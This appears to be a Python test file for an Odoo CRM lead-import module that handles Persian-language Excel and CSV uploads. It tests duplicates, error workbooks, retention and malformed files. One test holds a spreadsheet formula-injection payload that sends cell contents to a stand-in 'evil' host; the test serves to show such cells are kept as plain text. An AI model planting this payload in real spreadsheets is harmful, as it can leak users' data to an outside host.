import io

import openpyxl

from odoo.exceptions import UserError, ValidationError
from odoo.tests import tagged
from odoo.tools import mute_logger

from ..workbooks import build_result_workbook
from .common import LeadImportCommon, make_xlsx

HEADERS = ["عنوان سرنخ", "موبایل", "ایمیل", "استان", "مبلغ", "فروشنده", "شناسه"]


@tagged("post_install", "-at_install")
class TestImport(LeadImportCommon):
    def make_rows(self, count):
        """Sound rows, as people write them."""
        login = self.user_sales_leads.login
        return [
            [
                f"سرنخ {n}",
                f"0912{n:07}",
                f"a{n}@b.ir",
                "تهران",
                "1,500,000",
                login,
                f"K{n}",
            ]
            for n in range(1, count + 1)
        ]

    def recheck(self, book):
        content = io.BytesIO()
        book.save(content)
        lead_import = self.upload(content.getvalue())
        lead_import.action_check()
        return lead_import

    def test_thousand_rows(self):
        """LT-41, C.7: every row of a file is accounted for, before the import and
        after; errors go to a workbook that can be corrected and sent again, with
        decisions on the duplicates."""
        rows = self.make_rows(1000)
        for index in (10, 500, 999):
            rows[index][4] = "یک میلیون و نیم"
        for index in (20, 21):
            rows[index][3] = "فلاتستان"
        for index in range(100, 105):
            rows[index][6] = "K1"
        existing = self.env["crm.lead"].create(
            [
                {"name": f"old {n}", "email_from": f"A{n}@b.ir", "city": "قم"}
                for n in range(201, 208)
            ]
        )
        lead_import = self.check([HEADERS, *rows])
        self.assert_accounted(lead_import, ready=983, error=5, duplicate=12)
        self.assertFalse(self.env["crm.lead"].search([("import_id", "!=", False)]))
        for row, lead in zip(lead_import.duplicate_row_ids[5:], existing, strict=True):
            self.assertEqual(row.match_lead_id, lead)
            self.assertIn(lead.name, row.match_text)
        self.assertIn("Row 2", lead_import.duplicate_row_ids[0].match_text)

        self.do_import(lead_import)
        self.assert_accounted(lead_import, error=5, imported=983, skipped=12)
        leads = self.env["crm.lead"].search([("import_id", "=", lead_import.id)])
        self.assertEqual(len(leads), 983)
        self.assertEqual(leads, lead_import.row_ids.lead_id.sorted("id", reverse=True))

        persian = lead_import.with_context(lang="fa_IR")
        book = openpyxl.load_workbook(io.BytesIO(build_result_workbook(persian)))
        errors, duplicates = book.worksheets
        red = {
            cell.row
            for row in errors.iter_rows()
            for cell in row
            if cell.fill.fgColor.rgb == "FFF8B4B4"
        }
        self.assertEqual(red, set(range(3, 8)))
        self.assertEqual(errors.max_row, 7)
        self.assertRegex(errors["A3"].value, "[ء-ی]")
        self.assertIn("فلاتستان", " ".join(errors[f"A{n}"].value for n in range(3, 8)))
        for line in range(3, 8):
            errors.cell(line, 5).value = "تهران"
            errors.cell(line, 6).value = "1500000"
        # The decisions, in Persian and in English: of the twelve, two are made leads,
        # one is written, one is filled in, the others are left out.
        self.assertEqual(duplicates.max_row, 14)
        labels = duplicates.data_validations.dataValidation[0].formula1.strip('"')
        for line, label in (
            (3, labels.split(",")[3]),
            (8, "Create a lead and flag it"),
            (9, "Overwrite the existing lead"),
            (10, labels.split(",")[1]),
        ):
            duplicates.cell(line, 1).value = label
        again = self.recheck(book)
        self.assert_accounted(again, ready=5, duplicate=12)
        self.do_import(again)
        self.assert_accounted(again, imported=7, updated=2, skipped=8)
        self.assertEqual(
            [lead.name for lead in existing[:3]], ["old 201", "سرنخ 202", "old 203"]
        )
        self.assertEqual(existing[1].city, "قم")
        self.assertEqual(existing[2].phone, "09120000203")
        self.assertFalse(existing[3].phone)
        flagged = again.row_ids.lead_id.filtered(lambda lead: lead.tag_ids)
        tag = self.env.ref("crm_lead_tools.crm_tag_possible_duplicate")
        self.assertEqual(flagged.tag_ids, tag)
        self.assertEqual(len(flagged), 2)

    def test_values(self):
        """LT-41: what stands in the workbook stands in the lead."""
        lead_import = self.check([HEADERS, self.make_rows(1)[0]])
        lead_import.action_import()
        lead = lead_import.row_ids.lead_id
        self.assertEqual(lead.name, "سرنخ 1")
        self.assertEqual(lead.phone, "09120000001")
        self.assertEqual(lead.email_normalized, "a1@b.ir")
        self.assertEqual(lead.state_id, self.tehran)
        self.assertEqual(lead.country_id.code, "IR")
        self.assertEqual(lead.expected_revenue, 1_500_000)
        self.assertEqual(lead.user_id, self.user_sales_leads)
        self.assertEqual(lead.team_id, self.sales_team_1)
        self.assertEqual(lead.import_external_id, "K1")
        self.assertEqual(lead.create_uid, self.user_sales_manager)
        self.assertTrue(lead.stage_id)

    def test_same_file_twice(self):
        """LT-41: a file with IDs is not imported a second time."""
        rows = [HEADERS, *self.make_rows(3)]
        self.check(rows).action_import()
        again = self.check(rows, user=self.user_sales_leads)
        self.assert_accounted(again, duplicate=3)
        self.assertIn("external ID", again.row_ids[0].match_text)
        self.do_import(again)
        self.assert_accounted(again, skipped=3)

    def test_import_once(self):
        """LT-41: pressing twice imports once."""
        lead_import = self.check([HEADERS, *self.make_rows(2)])
        lead_import.action_import()
        with self.assertRaises(UserError):
            lead_import.action_import()
        with self.assertRaises(UserError):
            lead_import.action_check()
        with self.assertRaises(UserError):
            lead_import.action_restart()
        self.assert_accounted(lead_import, ready=0, error=0, imported=2)

    def test_another_file(self):
        """LT-41: before the import another file can be chosen; nothing is left."""
        lead_import = self.check([HEADERS, *self.make_rows(2)])
        lead_import.action_restart()
        self.assertEqual(lead_import.state, "draft")
        self.assertFalse(lead_import.file or lead_import.row_ids or lead_import.mapping)
        with self.assertRaises(UserError):
            lead_import.action_check()

    def test_checked_again_on_import(self):
        """LT-41: what has changed since the check is noticed, and told."""
        lead_import = self.check([HEADERS, *self.make_rows(2)])
        self.user_sales_leads.active = False
        lead_import.action_import()
        self.assert_accounted(lead_import, ready=0, error=2, imported=0)
        self.assertIn("does not exist", lead_import.row_ids[0].message)

    def test_row_that_the_database_refuses(self):
        """LT-41: a row refused by somebody else's rule costs its batch nothing."""
        refused = ["سرنخ 3", "سرنخ 6"]
        leads = type(self.env["crm.lead"])
        original = leads.create

        def create(records, vals_list):
            created = original(records, vals_list)
            for lead in created:
                if lead.name in refused:
                    raise ValidationError(lead.name)
            return created

        lead_import = self.check([HEADERS, *self.make_rows(8)])
        self.patch(leads, "create", create)
        lead_import.action_import()
        self.assert_accounted(lead_import, ready=0, error=2, imported=6)
        errors = lead_import.error_row_ids
        self.assertEqual(errors.mapped("name"), refused)
        self.assertEqual(errors.mapped("message"), refused)
        count = self.env["crm.lead"].search_count([("import_id", "=", lead_import.id)])
        self.assertEqual(count, 6)

    @mute_logger("odoo.sql_db")
    def test_row_that_breaks_a_constraint(self):
        """LT-41: a constraint of the database gives a message too, not a crash."""
        self.env.cr.execute(
            "ALTER TABLE crm_lead ADD CONSTRAINT led_city CHECK (city IS NOT NULL)"
            " NOT VALID"
        )
        lead_import = self.check(
            [["عنوان", "شهر"], ["a", "قم"], ["b", ""], ["c", "ری"]]
        )
        lead_import.action_import()
        self.assert_accounted(lead_import, ready=0, error=1, imported=2)
        self.assertTrue(lead_import.error_row_ids.message)

    def test_one_message(self):
        """LT-41: one message for the import, none for each lead, nobody is notified."""
        before = self.env["mail.message"].search([], limit=1).id
        lead_import = self.check([HEADERS, *self.make_rows(5)])
        lead_import.action_import()
        self.env.flush_all()
        messages = self.env["mail.message"].search(
            [("id", ">", before), ("model", "in", ("crm.lead", "crm.lead.import"))]
        )
        self.assertIn("5 leads imported, 0 updated", lead_import.message_ids[0].preview)
        self.assertFalse(messages.filtered(lambda m: m.model == "crm.lead"))
        self.assertFalse(messages.notification_ids)

    def test_retention(self):
        """LT-41, 4.2: rows and file hold personal data and go after half a year; the
        leads and the summary stay."""
        old, new = (self.check([HEADERS, row]) for row in self.make_rows(2))
        old.action_import()
        lead = old.row_ids.lead_id
        self.env.flush_all()
        self.env.cr.execute(
            "UPDATE crm_lead_import SET create_date = now() - interval '181 days'"
            " WHERE id = %s",
            [old.id],
        )
        self.env.invalidate_all()
        self.env["crm.lead.import"]._gc_rows()
        self.assertFalse(old.row_ids or old.column_ids or old.file)
        self.assertTrue(new.row_ids and new.file)
        self.assertTrue(lead.exists())
        self.assertIn("1 leads imported", old.message_ids[0].preview)

    def test_ignored_columns(self):
        """LT-41: unknown columns are reported and do no harm."""
        lead_import = self.check([["رنگ", "عنوان", "قد"], ["آبی", "a", 180]])
        self.assert_accounted(lead_import, ready=1, error=0, imported=0)
        self.assertIn("رنگ", lead_import.ignored_headers)
        self.assertIn("قد", lead_import.ignored_headers)
        self.assertNotIn("عنوان", lead_import.ignored_headers)

    def test_refused_files(self):
        """LT-41: a file that cannot be read changes nothing and says what to do."""
        for name, content in (
            ("leads.xlsx", b"\x89PNG\r\n"),
            ("leads.exe", b"MZ"),
            ("leads.xlsx", make_xlsx([HEADERS])),
            ("leads.xlsx", make_xlsx([])),
            ("leads.xlsx", make_xlsx([["x", "y"], ["1", "2"]])),
        ):
            lead_import = self.upload(content, name=name)
            with self.subTest(name=name, size=len(content)):
                with self.assertRaises(UserError):
                    lead_import.action_check()
                self.assertEqual(lead_import.state, "draft")
                self.assertFalse(lead_import.row_ids)

    def test_dangerous_cells(self):
        """LT-41, C.9: formulas, +98…, @x and a note of 40,000 letters come through as
        text, into the leads and through the error workbook."""
        formula = '=HYPERLINK("http://evil/?"&A1,"x")'
        note = "یادداشت بلند با فاصله " * 1850
        self.assertGreater(len(note), 40_000)
        rows = [
            ["عنوان", "شرکت", "موبایل", "یادداشت", "ایمیل"],
            [formula, "@x", "+989121234567", f"{note}.", "broken"],
            ["-1", "+1", "", "http://a.ir\n" * 3, "broken"],
        ]
        csv = "\n".join(
            ",".join(f'"{cell.replace(chr(34), chr(34) * 2)}"' for cell in row)
            for row in rows
        )
        lead_import = self.upload(csv.encode(), name="leads.csv")
        lead_import.action_check()
        self.assert_accounted(lead_import, ready=0, error=2, imported=0)
        book = openpyxl.load_workbook(io.BytesIO(build_result_workbook(lead_import)))
        kinds = {cell.data_type for row in book.active.iter_rows() for cell in row}
        self.assertLessEqual(kinds, {"s", "n"})  # n: also what is empty

        self.assertEqual(
            [row.payload for row in self.recheck(book).row_ids],
            [row.payload for row in lead_import.row_ids],
        )
        emails = [cell.value for cell in book.active[1]].index("lead1:email_from") + 1
        for line in (3, 4):
            book.active.cell(line, emails).value = f"a{line}@b.ir"
        again = self.recheck(book)
        again.action_import()
        first, second = again.row_ids.lead_id
        self.assertEqual(first.name, formula)
        self.assertEqual(first.partner_name, "@x")
        self.assertEqual(first.phone, "+989121234567")
        self.assertEqual(first.description, f"<p>{note}.</p>")
        self.assertEqual((second.name, second.partner_name), ("-1", "+1"))

    def test_seventy_thousand_links(self):
        """LT-41, C.9: more links than Excel allows are only text."""
        lead_import = self.check(
            [["عنوان", *["وب‌سایت"] * 150], *[["", *["http://a.ir"] * 150]] * 470]
        )
        self.assert_accounted(lead_import, ready=0, error=470, imported=0)
        book = openpyxl.load_workbook(
            io.BytesIO(build_result_workbook(lead_import)), read_only=True
        )
        cells = [cell.value for row in book.active.iter_rows() for cell in row]
        self.assertEqual(cells.count("http://a.ir"), 70_500)
